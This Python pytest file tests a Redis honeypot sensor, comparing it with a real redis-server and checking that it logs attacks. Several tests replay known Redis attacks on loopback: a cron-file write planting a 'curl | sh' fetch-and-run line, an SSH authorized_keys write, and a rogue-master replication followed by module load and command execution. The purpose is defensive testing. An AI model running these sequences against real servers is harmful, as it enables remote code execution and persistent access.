# SPDX-License-Identifier: MIT
"""The Redis trap against the real thing: Debian 12's redis-server 7.0.15, redis-cli, nmap.

* the same probes sent to a real ``redis-server`` (started here on loopback, configured as the
  trap claims: no password, protected configs and MODULE enabled) and to the trap, answers diffed
  byte for byte after normalising values that differ between any two servers (ids, ports, times);
* ``redis-cli`` running the classic cron-write attack; the URL in it is fetched from a loopback
  HTTP server into the content store;
* a real ``redis-server`` as the attacker's rogue master: REPLICAOF makes the trap fetch its
  full-resync payload into the content store;
* ``nmap -sV`` names the service as the real server's;
* fuzz and a flood of connections leave the sensor up with bounded memory.
"""

from __future__ import annotations

import hashlib
import os
import random
import re
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from payloadserver import serve_payload
from redisutil import (
    PROBES,
    SENTINEL,
    SENTINEL_REPLY,
    RealRedis,
    cli,
    cli_json,
    command,
    dead_letters,
    exchange,
    exchange_on,
    normalise,
    redis_missing,
    rss_kb,
    run_real_redis,
)
from sensorutil import SensorProc, free_port, need, run_sensor, wait_port

pytestmark = pytest.mark.skipif(redis_missing() is not None, reason=redis_missing() or "")


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RealRedis]:
    with run_real_redis(tmp_path_factory.mktemp("real-redis")) as r:
        yield r


@pytest.fixture(scope="module")
def sensor(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, int]]:
    port = free_port()
    overrides: dict[str, dict[str, Any]] = {
        "sensor.redis": {"enabled": True, "listen": [f"127.0.0.1:{port}"], "replication_timeout": 20.0},
        "sensor.downloads": {"allow_loopback": True},
        "sensor.limits": {"max_per_ip": 400},
    }
    with run_sensor(tmp_path_factory.mktemp("sensor"), overrides) as sp:
        wait_port(port, proc=sp.proc)
        sp.wait_for(lambda evs: any(e["eventid"] == "honeyfarm.sensor.start" for e in evs))
        yield sp, port


# --- differential: the trap answers as the real server ------------------------------------------


def both(real: RealRedis, port: int, probe: bytes) -> tuple[bytes, bytes]:
    """Both servers' answers; an ECHO after the probe ends the wait (unless it would change the probe)."""
    data = b"FLUSHALL\r\nSCRIPT FLUSH\r\n" + probe
    if len(probe) < 65536:
        data += SENTINEL
    got_real = exchange(real.port, data, sentinel=SENTINEL_REPLY, quiet=0.3)
    got_trap = exchange(port, data, sentinel=SENTINEL_REPLY, quiet=0.3)
    return normalise(got_real, str(real.dir)), normalise(got_trap, str(real.dir))


def test_answers_match_the_real_redis_server(real: RealRedis, sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    diffs = []
    for probe in PROBES:
        want, got = both(real, port, probe)
        if want != got:
            diffs.append(f"{probe[:80]!r}\n  real: {want[:400]!r}\n  trap: {got[:400]!r}")
    assert not diffs, f"{len(diffs)} of {len(PROBES)} probes differ:\n" + "\n".join(diffs)


def _fields(text: bytes) -> list[str]:
    return [line.split(":", 1)[0] for line in text.decode().split("\r\n") if line and not line.startswith("#")]


def _sections(text: bytes) -> list[str]:
    return [line for line in text.decode().split("\r\n") if line.startswith("#")]


def test_info_has_the_real_fields_and_sections(real: RealRedis, sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    for arg in ([], ["server"], ["clients", "memory"], ["default"], ["everything"], ["keyspace"]):
        want = command(real.port, "INFO", *arg)
        got = command(port, "INFO", *arg)
        assert isinstance(want, bytes) and isinstance(got, bytes)
        assert _sections(got) == _sections(want), arg
        # commandstats/latencystats/errorstats lines depend on what was run; the rest by name
        skip = ("cmdstat_", "latency_percentiles_usec_", "errorstat_", "db")
        assert [f for f in _fields(got) if not f.startswith(skip)] == [
            f for f in _fields(want) if not f.startswith(skip)
        ], arg
    info = command(port, "INFO", "server")
    assert isinstance(info, bytes)
    assert b"redis_version:7.0.15\r\n" in info and b"redis_mode:standalone\r\n" in info
    assert f"tcp_port:{port}\r\n".encode() in info
    assert re.search(rb"os:Linux 6\.1\.0-\S+ x86_64\r\n", info)
    again = command(port, "INFO", "server")
    assert isinstance(again, bytes)
    for stable in (b"run_id:", b"process_id:"):  # one 'server process' per sensor run
        assert re.search(stable + rb"\S+", info).group() == re.search(stable + rb"\S+", again).group()  # type: ignore[union-attr]


def test_info_replication_after_replicaof_has_the_real_fields(real: RealRedis, sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    probe = b"replicaof 127.0.0.1 1\r\ninfo replication\r\nrole\r\nset a b\r\nreplicaof no one\r\nrole\r\n"
    want = exchange(real.port, probe + SENTINEL, sentinel=SENTINEL_REPLY)
    got = exchange(port, probe + SENTINEL, sentinel=SENTINEL_REPLY)
    assert _fields(want.split(b"\r\n", 2)[2]) == _fields(got.split(b"\r\n", 2)[2])
    tail = re.compile(rb"\*5\r\n\$5\r\nslave.*", re.S)
    assert tail.search(want).group() == tail.search(got).group()  # type: ignore[union-attr]


def test_with_requirepass_it_answers_as_a_real_server_with_one(tmp_path: Path) -> None:
    port = free_port()
    overrides: dict[str, dict[str, Any]] = {
        "sensor.redis": {"enabled": True, "listen": [f"127.0.0.1:{port}"], "requirepass": "s3cret"},
        "sensor.ssh": {"enabled": False},
        "sensor.telnet": {"enabled": False},
    }
    probes = [
        b"PING\r\nget k\r\nfoo\r\nconfig get dir\r\n",
        b"auth wrong\r\nauth default wrong\r\nauth bob s3cret\r\nPING\r\n",
        b"auth s3cret\r\nPING\r\nset k v\r\nget k\r\n",
        b"hello 2 auth default wrong\r\nPING\r\n",
        b"*1\r\n$20000\r\n",  # before AUTH redis takes no bulk over 16 KiB
        b"*11\r\n",  # ... and no command of more than 10 arguments
        b"auth default s3cret\r\n*2\r\n$4\r\nECHO\r\n$20000\r\n" + b"e" * 20000 + b"\r\n",
        b"QUIT\r\n",
    ]
    (tmp_path / "sensor").mkdir()
    with (
        run_real_redis(tmp_path / "real", "--requirepass", "s3cret") as real,
        run_sensor(tmp_path / "sensor", overrides) as sp,
    ):
        wait_port(port, proc=sp.proc)
        sp.wait_for(lambda evs: any(e["eventid"] == "honeyfarm.sensor.start" for e in evs))
        for probe in probes:
            data = probe + (SENTINEL if b"20000\r\n\r" not in probe + b"\r" else b"")
            want = exchange(real.port, data, sentinel=SENTINEL_REPLY)
            got = exchange(port, data, sentinel=SENTINEL_REPLY)
            assert normalise(got, str(real.dir)) == normalise(want, str(real.dir)), probe
        evs = sp.wait_for(lambda evs: any(e["eventid"] == "redis.login.attempt" and e["success"] for e in evs))
    tries = [(e["username"], e["password"], e["success"]) for e in evs if e["eventid"] == "redis.login.attempt"]
    assert ("default", "wrong", False) in tries and ("bob", "s3cret", False) in tries
    assert ("default", "s3cret", True) in tries


def test_config_get_star_lists_the_real_parameters(real: RealRedis, sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    want, got = command(real.port, "CONFIG", "GET", "*"), command(port, "CONFIG", "GET", "*")
    assert isinstance(want, list) and isinstance(got, list)
    assert sorted(got[::2]) == sorted(want[::2])  # the order is redis' dict order, random per process
    same = dict(zip(want[::2], want[1::2], strict=True))
    theirs = dict(zip(got[::2], got[1::2], strict=True))
    differ = {k for k in same if same[k] != theirs[k]}
    # what a Debian host's /etc/redis/redis.conf + systemd unit set differently from this test's command line
    assert differ <= {
        b"dir",
        b"port",
        b"pidfile",
        b"logfile",
        b"supervised",
        b"bind",
        b"save",
        b"proto-max-bulk-len",
        b"dbfilename",
    }, differ


def test_config_get_dir_and_set_view(real: RealRedis, sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    assert command(port, "CONFIG", "GET", "dir") == [b"dir", b"/var/lib/redis"]
    assert command(port, "CONFIG", "GET", "dbfilename") == [b"dbfilename", b"dump.rdb"]
    probe = b"config set dir /tmp dbfilename x.rdb\r\nconfig get dir\r\nconfig get db*\r\n"
    want, got = both(real, port, probe)
    assert want == got
    # the next connection from the same address sees the change, as on a real server
    assert command(port, "CONFIG", "GET", "dir") == [b"dir", b"/tmp"]
    for p, d in ((real.port, str(real.dir)), (port, "/var/lib/redis")):
        assert command(p, "CONFIG", "SET", "dir", d, "dbfilename", "dump.rdb") == b"+OK"


# --- the cron-write attack with redis-cli --------------------------------------------------------

PAYLOAD = b"#!/bin/sh\necho redis-trap-dropper-7f3a\n"


@pytest.fixture(scope="module")
def http_server() -> Iterator[int]:
    with serve_payload(PAYLOAD) as port:
        yield port


def test_redis_cli_cron_write_is_logged_and_its_url_fetched(sensor: tuple[SensorProc, int], http_server: int) -> None:
    sp, port = sensor
    url = f"http://127.0.0.1:{http_server}/x.sh"
    cron = f"\n\n*/1 * * * * curl -fsSL {url} | sh\n\n"
    assert cli(port, "config", "set", "dir", "/var/spool/cron") == "OK"
    script = "\n".join(
        [
            "flushall",
            "config set dir /var/spool/cron",
            "config set dbfilename root",
            f"set backup1 {cron!r}".replace("'", '"'),
            "save",
        ]
    )
    out = subprocess.run(
        ["redis-cli", "-h", "127.0.0.1", "-p", str(port)], input=script.encode(), capture_output=True, timeout=30
    )
    assert out.stdout.decode().split() == ["OK", "OK", "OK", "OK", "OK"], out
    evs = sp.wait_for(
        lambda evs: any(e["eventid"] == "cowrie.session.file_download" and e.get("url") == url for e in evs)
    )
    write = next(e for e in evs if e["eventid"] == "redis.file.write" and e.get("dbfilename") == "root")
    assert write["dir"] == "/var/spool/cron" and write["kind"] == "cron" and write["path"] == "/var/spool/cron/root"
    assert any("curl -fsSL" in v for v in write["values"]) and write["urls"] == [url]
    dl = next(e for e in evs if e["eventid"] == "cowrie.session.file_download" and e.get("url") == url)
    assert dl["trap"] == "redis" and dl["session"] == write["session"]
    stored = sp.spool / "downloads" / dl["sha256"][:2] / dl["sha256"]
    assert stored.read_bytes() == PAYLOAD
    inputs = [e["command"] for e in evs if e["eventid"] == "redis.command.input" and e["session"] == write["session"]]
    assert "config set dbfilename root" in inputs


def test_authorized_keys_write_over_separate_redis_cli_runs(sensor: tuple[SensorProc, int]) -> None:
    """antirez's 2015 recipe, one redis-cli per command: the state holds across connections."""
    sp, port = sensor
    key = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKm0cQ9cU8hFv2trapkey attacker@box"
    assert cli(port, "flushall") == "OK"
    out = subprocess.run(
        ["redis-cli", "-h", "127.0.0.1", "-p", str(port), "-x", "set", "crackit"],
        input=b"\n\n" + key + b"\n\n\n",
        capture_output=True,
        timeout=30,
    )
    assert out.stdout.strip() == b"OK", out
    assert cli(port, "config", "set", "dir", "/root/.ssh/") == "OK"
    assert cli(port, "config", "get", "dir") == "dir\n/root/.ssh"
    assert cli(port, "config", "set", "dbfilename", "authorized_keys") == "OK"
    assert cli(port, "save") == "OK"
    evs = sp.wait_for(lambda evs: any(e["eventid"] == "redis.file.write" and e["kind"] == "ssh_key" for e in evs))
    write = next(e for e in evs if e["eventid"] == "redis.file.write" and e["kind"] == "ssh_key")
    assert write["path"] == "/root/.ssh/authorized_keys" and key.decode() in write["values"][0]
    assert cli(port, "config", "set", "dir", "/var/lib/redis", "dbfilename", "dump.rdb") == "OK"
    assert cli(port, "flushall") == "OK"


# --- the rogue-master attack ----------------------------------------------------------------------


# No LZF (the marker stays visible in the RDB), no 5 s wait for more replicas before a diskless sync.
FAST_MASTER = ("--rdbcompression", "no", "--repl-diskless-sync-delay", "0")


@pytest.mark.parametrize("diskless", ["yes", "no"])
def test_replicaof_a_rogue_master_captures_its_payload(
    sensor: tuple[SensorProc, int], tmp_path: Path, diskless: str
) -> None:
    """diskless yes: the payload comes EOF-marked (``$EOF:<mark>``); no: as ``$<len>``."""
    sp, port = sensor
    marker = os.urandom(8).hex().encode()
    blob = b"\x7fELF-not-really-a-module-" + marker * 64
    seen = {e["sha256"] for e in sp.events() if e["eventid"] == "redis.replication.payload"}
    with run_real_redis(tmp_path / "master", "--repl-diskless-sync", diskless, *FAST_MASTER) as master:
        assert command(master.port, "SET", "exp", blob) == b"+OK"
        script = "\n".join(
            [
                "config set dir /tmp",
                "config set dbfilename exp.so",
                f"slaveof 127.0.0.1 {master.port}",
            ]
        )
        subprocess.run(["redis-cli", "-h", "127.0.0.1", "-p", str(port)], input=script.encode(), timeout=30)

        def new(evs: list[dict[str, Any]]) -> list[dict[str, Any]]:
            return [e for e in evs if e["eventid"] == "redis.replication.payload" and e["sha256"] not in seen]

        evs = sp.wait_for(lambda evs: bool(new(evs)), timeout=30)
        assert cli(port, "slaveof", "no", "one") == "OK"
    got = new(evs)[0]
    assert got["master_host"] == "127.0.0.1" and got["master_port"] == master.port
    assert got["kind"] == "rdb" and got["complete"] is True
    assert got.get("declared_size") == (None if diskless == "yes" else got["size"])
    stored = (sp.spool / "downloads" / got["sha256"][:2] / got["sha256"]).read_bytes()
    assert stored.startswith(b"REDIS0010") and marker * 64 in stored


def test_module_load_after_replication_is_logged(sensor: tuple[SensorProc, int], tmp_path: Path) -> None:
    sp, port = sensor
    seen = sum(e["eventid"] == "redis.replication.payload" for e in sp.events())
    with run_real_redis(tmp_path / "master", *FAST_MASTER) as master:
        command(master.port, "SET", "k", "v")
        s = socket.create_connection(("127.0.0.1", port), timeout=10)
        with s:
            s.sendall(b"config set dir /tmp\r\nconfig set dbfilename exp.so\r\n")
            s.sendall(f"replicaof 127.0.0.1 {master.port}\r\n".encode())
            assert exchange_on(s, 3) == b"+OK\r\n+OK\r\n+OK\r\n"
            sp.wait_for(lambda evs: sum(e["eventid"] == "redis.replication.payload" for e in evs) > seen, timeout=30)
            s.sendall(b"module load /tmp/exp.so\r\nsystem.exec 'id'\r\nslaveof no one\r\n")
            assert exchange_on(s, 3) == b"+OK\r\n$0\r\n\r\n+OK\r\n"
    evs = sp.wait_for(lambda evs: any(e["eventid"] == "redis.module.load" and e.get("loaded") for e in evs))
    load = next(e for e in evs if e["eventid"] == "redis.module.load" and e.get("loaded"))
    assert load["path"] == "/tmp/exp.so"


def test_replication_respects_the_address_policy() -> None:
    import asyncio

    from honeyfarm.sensor.capture.netpolicy import AddressPolicy
    from honeyfarm.sensor.traps.redis.replication import ReplicationError, resolve_checked

    async def go(host: str) -> str:
        try:
            return await resolve_checked(host, 6379, AddressPolicy())
        except ReplicationError as exc:
            return str(exc)

    assert asyncio.run(go("127.0.0.1")).startswith("blocked: loopback")
    assert asyncio.run(go("10.1.2.3")).startswith("blocked: private")
    assert asyncio.run(go("localhost")).startswith("blocked: loopback")
    assert asyncio.run(go("8.8.8.8")) == "8.8.8.8"


# --- nmap ----------------------------------------------------------------------------------------


@pytest.mark.skipif(need("nmap") is not None, reason=need("nmap") or "")
def test_nmap_names_it_redis(sensor: tuple[SensorProc, int]) -> None:
    """Service detection and the redis-info script read it as they read the real server."""
    _, port = sensor
    argv = ["nmap", "-sV", "--script", "redis-info", "-Pn", "-n", "--max-retries", "1", "--host-timeout", "90s"]
    out = subprocess.run([*argv, "-p", str(port), "127.0.0.1"], capture_output=True, timeout=120).stdout.decode()
    line = next(x for x in out.splitlines() if x.startswith(f"{port}/tcp"))
    assert re.search(r"open\s+redis\s+Redis key-value store 7\.0\.15 \(64 bits\)", line), out
    assert "Version: 7.0.15" in out and "Role: master" in out and "Bind addresses:" in out, out


# --- hardening -----------------------------------------------------------------------------------


def alive(port: int) -> None:
    assert command(port, "PING") == b"+PONG"


def test_fuzz_garbage_and_oversized_frames_leave_it_up(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    rnd = random.Random(12)
    frames = [
        b"*1\r\n$1073741824\r\n",  # redis' own limit would allow 512 MiB: the cap refuses it
        b"*1\r\n$1048577\r\n",
        b"*99999999999\r\n",
        b"*5000\r\n",
        b"*2\r\n*1\r\n$4\r\nPING\r\n",  # nested arrays: RESP2 requests are flat
        b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$100\r\nshort",
        b"\x00\xff" * 40000,
        b"*1\r\n" + b"$" + b"9" * 70000,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(200),
    ]
    for _ in range(150):
        kind = rnd.randrange(4)
        if kind == 0:
            frames.append(rnd.randbytes(rnd.randrange(1, 3000)))
        elif kind == 1:
            n = rnd.randrange(1, 6)
            body = b"".join(
                b"$%d\r\n%s\r\n" % (len(a), a) for a in (rnd.randbytes(rnd.randrange(0, 40)) for _ in range(n))
            )
            frames.append((b"*%d\r\n" % n + body)[: rnd.randrange(1, 200)])
        elif kind == 2:
            frames.append(
                rnd.choice([b"SET", b"EVAL", b"CONFIG SET", b"SLAVEOF", b"MODULE LOAD"])
                + b" "
                + rnd.randbytes(60)
                + b"\r\n"
            )
        else:
            frames.append(b"*%d\r\n" % rnd.randrange(-5, 9000) + b"$%d\r\n" % rnd.randrange(-5, 2**40))
    for f in frames:
        exchange(port, f, quiet=0.05, limit=2)
    alive(port)
    assert sp.proc is not None and sp.proc.poll() is None
    evs = sp.events()
    assert any(e["eventid"] == "redis.session.closed" and "invalid bulk length" in e.get("reason", "") for e in evs)


def test_flood_of_connections_leaves_it_up_with_bounded_memory(sensor: tuple[SensorProc, int]) -> None:
    """300 connections each holding most of a 1 MB bulk (300 MB in all): the trap-wide budget
    (32 MiB) closes the biggest holders, the sensor stays up and its memory bounded."""
    sp, port = sensor
    assert sp.proc is not None
    before = rss_kb(sp.proc.pid)
    socks, refused = [], 0
    chunk = b"z" * 900_000
    t0 = time.monotonic()
    for i in range(300):
        s = socket.create_connection(("127.0.0.1", port), timeout=10)
        socks.append(s)
        try:
            s.sendall(b"SET k%d %s\r\n" % (i, b"v" * 1000) + b"*1\r\n$1000000\r\n" + chunk)
        except OSError:
            refused += 1
    alive(port)
    peak = rss_kb(sp.proc.pid)
    for s in socks:
        s.close()
    took = time.monotonic() - t0
    time.sleep(0.5)
    alive(port)
    after = rss_kb(sp.proc.pid)
    closed = sum(
        e["eventid"] == "redis.session.closed" and e.get("reason") == "sensor-wide memory budget" for e in sp.events()
    )
    print(
        f"flood: 300 connections x 0.9 MB in {took:.2f} s ({refused} sends failed, {closed} closed by the budget); "
        f"RSS {before} -> {peak} (open) -> {after} kB (closed)"
    )
    assert closed > 0
    assert peak - before < 150_000, (before, peak)
    assert sp.proc.poll() is None


def test_sessions_are_logged(sensor: tuple[SensorProc, int]) -> None:
    sp, port = sensor
    assert cli(port, "auth", "hunter2").startswith("ERR AUTH <password> called without any password")
    evs = sp.wait_for(
        lambda evs: any(e["eventid"] == "redis.login.attempt" and e.get("password") == "hunter2" for e in evs)
    )
    ids = {e["eventid"] for e in evs}
    assert {"redis.session.connect", "redis.session.closed", "redis.command.input"} <= ids
    cmd = next(e for e in evs if e["eventid"] == "redis.command.input" and e.get("command") == "auth hunter2")
    assert cmd["protocol"] == "redis" and cmd["name"] == "auth"


def test_shutdown_does_not_stop_the_trap(sensor: tuple[SensorProc, int]) -> None:
    _, port = sensor
    assert exchange(port, b"SHUTDOWN\r\n") == b"<EOF>"
    alive(port)


def test_events_ingest_into_the_lake_and_show_in_reports(sensor: tuple[SensorProc, int], tmp_path: Path) -> None:
    """Runs last: the module sensor's events so far (cron write, replication, floods) go into a lake."""
    sp, _ = sensor
    events = tmp_path / "events"
    events.mkdir()
    for p in sorted((sp.spool / "events").glob("*.jsonl*")):
        raw = p.read_bytes()
        (events / p.name).write_bytes(raw[: raw.rfind(b"\n") + 1])  # the file being written: whole lines
    lake = tmp_path / "lake"
    out = cli_json("ingest", str(events), "--lake", str(lake), "--no-progress", cwd=tmp_path)
    assert out["dead_letter"] == 0, dead_letters(lake, tmp_path)
    assert out["ingested"] > 10
    sql = (
        "SELECT eventid, count(*) AS n FROM events WHERE eventid LIKE 'redis.%' "
        "OR (eventid = 'cowrie.session.file_download' AND protocol = 'redis') GROUP BY eventid"
    )
    counts = {r["eventid"]: r["n"] for r in cli_json("query", sql, "--lake", str(lake), cwd=tmp_path)}
    for eid in ("redis.command.input", "redis.file.write", "redis.replication.payload", "cowrie.session.file_download"):
        assert counts.get(eid), (eid, counts)
    downloads = cli_json("report", "downloads", "--lake", str(lake), cwd=tmp_path)
    sha = hashlib.sha256(PAYLOAD).hexdigest()
    assert sha in {r["sha256"] for r in downloads}
